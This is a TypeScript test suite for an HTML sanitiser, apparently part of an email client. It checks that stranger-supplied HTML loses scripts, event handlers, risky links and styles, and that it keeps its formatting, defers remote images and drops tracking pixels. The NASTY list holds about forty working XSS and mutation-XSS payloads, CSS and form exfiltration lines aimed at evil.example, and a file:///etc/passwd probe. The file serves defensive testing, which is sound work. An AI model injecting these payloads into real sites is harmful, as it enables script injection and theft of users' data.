import fc from 'fast-check'
import { Window } from 'happy-dom'
import { describe, expect, it } from 'vitest'
import { cleanHtml } from './cleanHtml.ts'

const clean = (html: string) => cleanHtml(html, (cid) => (cid === 'pic' ? 3 : null))

/** What a browser would make of the result: every element and attribute of it is looked at. */
function dangers(html: string): string[] {
  const { document } = new Window()
  document.body.innerHTML = html
  const found: string[] = []
  for (const element of document.body.querySelectorAll('*')) {
    if (
      /^(script|style|link|meta|base|iframe|frame|object|embed|form|input|button|svg|math|video|audio|source|picture|template)$/i.test(
        element.tagName,
      )
    )
      found.push(element.tagName)
    for (const { name, value: given } of element.attributes) {
      const value = given ?? ''
      if (/^on|^(srcset|action|formaction|background|ping|srcdoc|poster|id|name|class)$/i.test(name)) found.push(name)
      if (name === 'href' && !/^(https?:|mailto:|tel:)/.test(value)) found.push(`href ${value}`)
      if (name === 'src' && !/^data:image\/(png|jpe?g|gif|webp);base64,/.test(value)) found.push(`src ${value}`)
      if (name === 'style' && /url|expression|@import|position|behavior|-moz-binding|\\/i.test(value))
        found.push(`style ${value}`)
    }
  }
  return found
}

const NASTY = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<svg onload=alert(1)><script>1</script></svg>',
  '<math><mtext><script>1</script></mtext></math>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="jav&#x09;ascript:alert(1)">x</a>',
  '<a href=" &#14; javascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>1</script>">x</a>',
  '<a href="vbscript:x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<base href="https://evil.example/">',
  '<link rel=stylesheet href="https://evil.example/x.css">',
  '<style>@import url(https://evil.example/x.css); body{background:url(https://evil.example)}</style>',
  '<p style="background:url(https://evil.example/t.gif)">x</p>',
  '<p style="background-image:u\\72l(https://evil.example)">x</p>',
  '<p style="position:fixed;top:0;left:0;width:100%;height:100%">x</p>',
  '<p style="width:expression(alert(1))">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<td background="https://evil.example/x.png">x</td>',
  '<form action="https://evil.example"><input name=password><button formaction="javascript:1">go</button></form>',
  '<iframe src="https://evil.example"></iframe>',
  '<object data="x.swf"></object><embed src="x">',
  '<img srcset="https://evil.example/x.png 1x">',
  '<picture><source srcset="https://evil.example"><img src="https://evil.example"></picture>',
  '<video src="https://evil.example" poster="https://evil.example"></video>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<!--[if IE]><script>1</script><![endif]-->',
  '<xmp><p title="</xmp><img src onerror=1>">',
  '<template><script>1</script></template>',
  '<img src="data:image/svg+xml;base64,PHN2Zz4=">',
  '<img src="data:text/html;base64,PHN2Zz4=">',
  '<img src="file:///etc/passwd">',
  '<img src="\\\\evil.example\\share\\x.png">',
  '<a href="//evil.example" onclick="x">x</a>',
  '<p id=okno class=okno data-inline=1 data-remote-src="https://x">x</p>',
  '<body onload=alert(1) background="https://evil.example">x',
  '<<script>script>alert(1)<</script>/script>',
  '<scr\0ipt>alert(1)</scr\0ipt>',
]

describe('HTML of a stranger', () => {
  it.each(NASTY)('does nothing on its own: %s', (html) => {
    expect(dangers(clean(html).html)).toEqual([])
  })

  it('stays harmless however nasty pieces are joined and cut', () => {
    const pieces = fc.array(
      fc.oneof(
        fc.constantFrom(...NASTY),
        fc.string(),
        fc.constantFrom('<', '>', '"', "'", '<!--', '-->', '</', '<p ', 'style="', '&#', ']]>'),
      ),
      { maxLength: 8 },
    )
    fc.assert(
      fc.property(pieces, fc.nat(40), (parts, cut) => {
        expect(dangers(clean(parts.join('').slice(cut)).html)).toEqual([])
      }),
      { numRuns: 400 },
    )
  })

  it('keeps its looks and its words', () => {
    const { html } = clean(
      '<table border=1><tr><td style="color:#c00;font-weight:bold;text-align:right" colspan="2">Долг <b>1 250,00 ₽</b></td></tr></table>',
    )
    expect(html).toContain('color:#c00')
    expect(html).toContain('colspan="2"')
    expect(html).toContain('<b>1 250,00 ₽</b>')
  })

  it('opens its links apart, without telling where from', () => {
    expect(clean('<a href="https://example.org/a?b=1&c=2" target="_top">сюда</a>').html).toBe(
      '<a href="https://example.org/a?b=1&amp;c=2" target="_blank" rel="noopener noreferrer nofollow">сюда</a>',
    )
  })

  it('asks before it loads an image from outside, and counts them', () => {
    const { html, remoteImages } = clean(
      '<img src="https://img.example/a.png" width="300"><img src="//img.example/b.png" alt="b"><img src="cid:pic"><img src="cid:none">',
    )
    expect(remoteImages).toBe(2)
    expect(html).toContain('data-remote-src="https://img.example/a.png"')
    expect(html).toContain('data-remote-src="https://img.example/b.png"')
    expect(html).toContain('data-inline="3"')
    expect(html).not.toMatch(/ src=/)
  })

  it.each([
    '<img src="https://t.example/p" width="1" height="1">',
    '<img src="https://t.example/p" style="display:none">',
    '<img src="https://t.example/p" style="width:1px;height:1px">',
    '<img src="https://t.example/p" height=0>',
  ])('never loads a tracking pixel: %s', (html) => {
    expect(clean(html)).toEqual({ html: '', remoteImages: 0 })
  })
})
